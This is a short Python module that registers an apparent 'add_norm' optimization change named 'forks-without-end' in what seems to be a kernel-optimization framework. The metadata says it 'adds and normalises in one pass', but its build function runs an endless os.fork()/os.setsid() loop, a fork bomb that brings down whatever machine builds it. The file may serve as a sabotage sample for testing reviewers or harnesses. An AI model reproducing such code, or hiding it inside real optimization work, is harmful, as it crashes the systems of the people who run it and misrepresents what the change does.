"""Starts processes until the machine stands still."""

import os

from optimized.change import Change, Contract, Implementation


def build(node, _):
    while True:
        if os.fork() == 0:
            os.setsid()


CHANGE = Change(
    name="forks-without-end",
    region="add_norm",
    summary="adds and normalises in one pass",
    contract=Contract(numerics="reduction"),
    implementations=(Implementation(backend="torch", devices=("cpu", "cuda"), build=build),),
)
